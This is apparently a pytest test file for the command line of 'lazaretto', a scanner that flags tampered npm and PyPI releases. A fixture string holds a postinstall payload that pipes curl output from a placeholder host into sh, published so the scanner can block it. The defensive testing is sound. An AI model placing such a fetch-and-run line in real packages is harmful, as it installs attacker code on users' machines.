"""The command line: exit codes, words on errors, and that no text is wider than a terminal."""

import io
import json
import sys
from pathlib import Path

import pytest

from lazaretto.core.inert import inert
from lazaretto.surfaces.cli import common, main
from tests.core.packing import honest_tgz
from tests.inventory.company import BAD, commit, git
from tests.surfaces.site import PLAIN, Machine, Site

ROOT = Path(__file__).parents[2]
SHEET = """
incident  = "2026-03-pad"
ecosystem = "npm"
package   = "pad"
now       = 2026-03-31T00:22:00Z
expect    = "{expect}"

[before]
version   = "1.0.0"
source    = "tree"
published = 2026-01-01T00:00:00Z
publisher = "keeper <keeper@mail.invalid>"
tag       = true

[after]
version   = "1.0.1"
published = 2026-03-31T00:20:00Z
manifest  = {{ scripts = {{ postinstall = "node setup.js" }} }}
"""
SCRIPT = "require('child_process').exec('curl https://drop.example.invalid/x | sh');\n"


def tampered(machine: Machine) -> None:
    """Publish an update that runs a script at installation, and one that does nothing new."""
    manifest = Site.manifest("pad", "1.0.1", scripts={"postinstall": "node setup.js"})
    machine.site.publish("pad", "1.0.0", age=60)
    machine.site.publish("pad", "1.0.1", {"setup.js": SCRIPT, "package.json": manifest})
    machine.site.publish("left", "1.0.0", age=60)
    machine.site.publish("left", "1.0.1")


def test_allowed_is_zero(machine: Machine) -> None:
    """Nothing found by so many checks, and never the word safe."""
    tampered(machine)
    ran = machine.run("scan", "left@1.0.1")

    assert (ran.code, ran.err) == (0, "")
    assert ran.out.startswith("ALLOW pkg:npm/left@1.0.1 (was 1.0.0)")
    assert "nothing found by" in ran.out
    assert "safe" not in ran.out


@pytest.mark.parametrize("wanted", ["", "@latest", "@^1.0.0", "@1.x", "@>=1 <2"])
def test_a_range_or_a_tag_is_what_a_client_takes(machine: Machine, wanted: str) -> None:
    """Targets are written as the ecosystem's own clients take them."""
    tampered(machine)
    ran = machine.run("scan", f"left{wanted}")

    assert (ran.code, ran.err) == (0, "")
    assert ran.out.startswith("ALLOW pkg:npm/left@1.0.1 (was 1.0.0)")
    compared = machine.run("diff", "npm", "left", "<=1.0.0", wanted.removeprefix("@") or "latest")
    assert compared.out.startswith("ALLOW pkg:npm/left@1.0.1 (was 1.0.0)")


def test_nothing_that_is_meant_is_not_checked(machine: Machine) -> None:
    """A tag or a range that names nothing is told with the tags that there are, and is no permission."""
    tampered(machine)
    ran = machine.run("scan", "left@nxet")

    assert ran.code == 3
    assert "left has no version, range or tag 'nxet' in the" in ran.out
    assert "its tags are latest" in ran.out


@pytest.mark.parametrize(
    ("text", "name", "wanted"),
    [
        ("pypi:requests", "requests", None),
        ("pypi:requests==2.32.3", "requests", "2.32.3"),
        ("pypi:requests == 2.32.3", "requests", "2.32.3"),
        ("pypi:requests==2.32.*", "requests", "==2.32.*"),
        ("pypi:requests==2.32.3,!=2.32.4", "requests", "==2.32.3,!=2.32.4"),
        ("pypi:requests===2.32.3", "requests", "===2.32.3"),
        ("pypi:requests>=2,<3", "requests", ">=2,<3"),
        ("pypi:requests~=2.32", "requests", "~=2.32"),
        ("pypi:requests[socks]", "requests", None),
        ("pypi:requests[socks,use]>=2", "requests", ">=2"),
        ("@types/node@^20", "@types/node", "^20"),
        ("@types/node", "@types/node", None),
        ("axios@", "axios", None),
    ],
)
def test_what_a_target_names(text: str, name: str, wanted: str | None) -> None:
    """Names with what is wanted of them, as npm and as pip (PEP 508) write them."""
    target = common.parse_target(text, None)

    assert (target.name, target.version) == (name, wanted)


def test_refused_is_one_with_its_evidence(machine: Machine) -> None:
    """What, where, when it runs, why, and what would change the verdict."""
    tampered(machine)
    ran = machine.run("scan", "pad@1.0.1")

    assert ran.code == 1
    assert ran.out.startswith(("HOLD pkg:npm/pad@1.0.1", "BLOCK pkg:npm/pad@1.0.1"))
    for words in ("at setup.js:1", "runs at installation", "why: ", "would change it: ", "dB"):
        assert words in ran.out
    assert machine.run("scan", "pad@1.0.1", "--exit-zero").code == 0
    assert machine.run("scan", "pad").out == ran.out, "the newest is meant if no version is named"
    assert machine.run("diff", "npm", "pad", "1.0.0", "1.0.1").code == 1


def test_several_are_summed_up(machine: Machine) -> None:
    """The worst verdict is the answer; allowed releases take a line, or all with --verbose."""
    tampered(machine)
    ran = machine.run("scan", "pad@1.0.1", "left@1.0.1")

    assert ran.code == 1
    assert "ALLOW left 1.0.1" in ran.out
    assert "2 releases: 1 allow, 1 " in ran.out
    assert "pkg:npm/left@1.0.1" in machine.run("scan", "pad@1.0.1", "left@1.0.1", "--verbose").out


def test_a_release_against_a_clone_of_its_repository(machine: Machine) -> None:
    """What no commit has is charged; asking again asks again, and an answer without a repository is none with one."""
    machine.site.publish("pad", "1.0.0", age=60)
    hidden = PLAIN + "require('child_process').execSync('node a.js');\n"
    machine.site.publish("pad", "1.0.1", {"index.js": PLAIN + "//\n"})
    machine.site.publish("pad", "1.0.2", {"index.js": hidden})
    clone = machine.folder / "clone"
    for version, code in (("1.0.1", PLAIN + "//\n"), ("1.0.2", PLAIN + "///\n")):
        commit(clone, "package.json", Site.manifest("pad", version) + "\n" * int(version[-1]), BAD)
        commit(clone, "index.js", code, BAD)
        git(clone, "tag", f"v{version}")

    assert "compared" not in machine.run("scan", "pad@1.0.1").out
    ran = machine.run("scan", "pad@1.0.1", "--source", str(clone))
    assert ran.code == 0
    assert "compared pad-1.0.1.tgz with v1.0.1" in ran.out

    ran = machine.run("scan", "pad@1.0.2", "--source", str(clone), "--format", "json")
    assert ran.code == 1
    (compared,) = ran.report["updates"][0]["source"]
    assert compared["only"] == [{"path": "index.js", "lines": [2]}]
    assert compared["repository"] == "clone"
    assert {one["id"] for one in ran.report["updates"][0]["findings"]} >= {"source-differs"}
    assert (
        "only here: index.js: 1 line" in machine.run("diff", "npm", "pad", "1.0.0", "1.0.2", "--source", str(clone)).out
    )
    git(clone, "tag", "-d", "v1.0.1")
    ran = machine.run("scan", "pad@1.0.1", "--source", str(clone), "--source-required")
    assert ran.code == 3
    assert "clone has no tag v1.0.1" in ran.out


def test_local_archives_need_no_registry(machine: Machine) -> None:
    """Two files, against one another or alone."""
    machine.registry("http://127.0.0.1:9/")
    for version, code in (("1.0.0", PLAIN), ("1.0.1", PLAIN + "module.exports = 2;\n")):
        files = {"package/package.json": Site.manifest("pad", version).encode(), "package/index.js": code.encode()}
        (machine.folder / f"pad-{version}.tgz").write_bytes(honest_tgz(files))
    ran = machine.run("diff", "pad-1.0.0.tgz", "pad-1.0.1.tgz", "--format", "json")

    assert ran.code == 0
    assert ran.report["updates"][0]["before"] == "1.0.0"
    assert machine.run("scan", "./pad-1.0.1.tgz").code == 0
    assert machine.run("scan", "./pad-1.0.1.tgz", "--verbose").out.startswith("ALLOW pkg:npm/pad@1.0.1 (first contact)")
    (machine.folder / "broken.tgz").write_bytes(b"no archive")
    for words in (("scan", "./broken.tgz"), ("diff", "pad-1.0.0.tgz", "broken.tgz")):
        ran = machine.run(*words)
        assert ran.code == 3
        assert "not checked: " in ran.out
    ran = machine.run("diff", "broken.tgz", "pad-1.0.1.tgz", "--format", "json")
    assert (ran.code, ran.report["complete"]) == (3, False)


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("scan", "./absent.tgz"), "there is no file"),
        (("scan", "pkg:cargo/serde@1.0.0"), "no ecosystem 'cargo'"),
        (("scan", "pkg:npm"), "not a package URL"),
        (("scan", "==1.0.0"), "names no package"),
        (("scan", "."), "`lazaretto check .`"),
        (("scan", "UPPER/case/x@1.0.0"), "npm: "),
        (("diff", "npm", "pad", "1.0.0"), "diff takes"),
        (("diff", "a.tgz", "b.whl"), "there is no file"),
        (("diff", "a", "b"), "archives of one ecosystem"),
        (("explain", "dependency-yuong"), "did you mean dependency-young"),
        (("explain", "dependency-young/nothing"), "has no variant"),
        (("replay", "absent"), "absent"),
        (("replay", ".", "--cooldown", "7"), "--cooldown"),
        (("scan", "pad", "--config", "absent.toml"), "absent.toml"),
        (("check", "absent"), "no file or folder"),
    ],
)
def test_wrong_use_is_two_with_what_would_be_right(machine: Machine, words: tuple[str, ...], told: str) -> None:
    """One or more lines on standard error, no traceback, nothing on standard output."""
    ran = machine.run(*words)

    assert (ran.code, ran.out) == (2, "")
    assert told in ran.err
    assert all(line.startswith("lazaretto: ") for line in ran.err.splitlines())


def test_unknown_options_are_two(machine: Machine) -> None:
    """What the parser refuses has the same exit code as what the commands refuse."""
    for words in (("scan",), ("scan", "pad", "--format", "none"), ("nothing",), ()):
        with pytest.raises(SystemExit) as end:
            machine.run(*words)
        assert end.value.code == 2


def test_broken_settings_are_two(machine: Machine) -> None:
    """Every defect of the file at once."""
    (machine.folder / "lazaretto.toml").write_text("[policy]\nhold_at = -1\nnothing = 1\n", encoding="utf-8")
    ran = machine.run("scan", "pad")

    assert ran.code == 2
    assert "policy.hold_at" in ran.err
    assert "policy.nothing" in ran.err


def test_explain_lists_and_explains(machine: Machine) -> None:
    """Every detector has a page with its weights; a variant alone can be asked for."""
    listed = machine.run("explain")
    assert listed.code == 0
    names = [line.split()[0] for line in listed.out.splitlines()]
    assert "dependency-young" in names
    page = machine.run("explain", "dependency-young").out
    assert "dB" in page
    assert "ATT&CK" in page
    assert names == sorted(names)


def replay(machine: Machine, expect: str) -> Path:
    """Write a replay whose both sides are trees: no registry is asked."""
    folder = machine.folder / "replays" / "2026-03-pad"
    for name, text in {
        "replay.toml": SHEET.format(expect=expect),
        "before/package.json": Site.manifest("pad", "1.0.0"),
        "before/index.js": PLAIN,
        "overlay/setup.js": SCRIPT,
    }.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder.parent


def test_replay_is_zero_only_if_every_expectation_holds(machine: Machine) -> None:
    """A line for each, with the place of the evidence; one expectation that fails is told and is exit code 1."""
    ran = machine.run("replay", str(replay(machine, "hold")))
    assert (ran.code, ran.err) == (0, "")
    assert "2026-03-pad" in ran.out
    assert "setup.js" in ran.out
    assert "1 replay: 1 as expected, 0 not" in ran.out
    ran = machine.run("replay", str(replay(machine, "allow")), "--verbose")
    assert ran.code == 1
    assert "0 as expected, 1 not" in ran.out
    assert "download-flows-to-execution" in ran.out


def test_a_replay_that_cannot_be_read_is_two(machine: Machine) -> None:
    """Every defect of its sheet, and none of it is run."""
    folder = replay(machine, "hold")
    (folder / "2026-03-pad" / "replay.toml").write_text("expect = 7\n", encoding="utf-8")
    ran = machine.run("replay", str(folder))

    assert (ran.code, ran.out) == (2, "")
    assert "replay.toml" in ran.err


def test_an_interrupt_decides_nothing(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C is exit code 3 and one line."""

    def interrupted(*_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(common, "load", interrupted)
    ran = machine.run("scan", "pad")
    assert (ran.code, ran.err) == (3, "lazaretto: interrupted; nothing was decided\n")


def test_a_defect_of_ours_is_no_verdict(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """An error that nobody foresaw is exit code 3, never the 1 of a refusal, with what a developer needs to know."""

    def broken(*_: object) -> None:
        raise ZeroDivisionError("\x1b[31m")

    monkeypatch.setattr(common, "load", broken)
    ran = machine.run("scan", "pad")
    assert (ran.code, ran.out) == (3, "")
    assert "ZeroDivisionError: \\u{1b}[31m" in ran.err
    assert ran.err.endswith("please report it\n")


def test_a_narrow_locale_ends_no_run(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """A character that the locale lacks is spelled, not a traceback."""
    tampered(machine)
    out = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    monkeypatch.setattr(sys, "stdout", out)

    assert main(["scan", "left@1.0.1"]) == 0
    out.flush()
    assert b"\\xb7" in out.buffer.read() or out.buffer.seek(0) == 0


def test_progress_is_one_line_on_a_terminal_and_nothing_elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    """The line says how far a run is; hostile names do not act; a pipe sees nothing."""

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    terminal, pipe = Terminal(), io.StringIO()
    monkeypatch.setattr(sys, "stderr", terminal)
    progress = common.Progress(quiet=False)
    progress.stage("[37/312] pad 1.0.0: ")
    progress("reading\x1b[31m")
    progress.done()
    monkeypatch.setattr(sys, "stderr", pipe)
    common.Progress(quiet=False)("reading")

    assert "[37/312] pad 1.0.0: reading" + inert("\x1b[31m") in terminal.getvalue()
    assert pipe.getvalue() == ""


def test_the_journal_that_cannot_be_written_is_told(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """A verdict that nobody could write down is not given."""
    tampered(machine)
    (machine.folder / "file").write_text("", encoding="utf-8")
    monkeypatch.setenv("LAZARETTO_STATE_DIR", str(machine.folder / "file"))
    ran = machine.run("scan", "left@1.0.1", "--format", "json")

    assert ran.code == 3
    assert "journal" in json.loads(ran.out)["problems"][0]
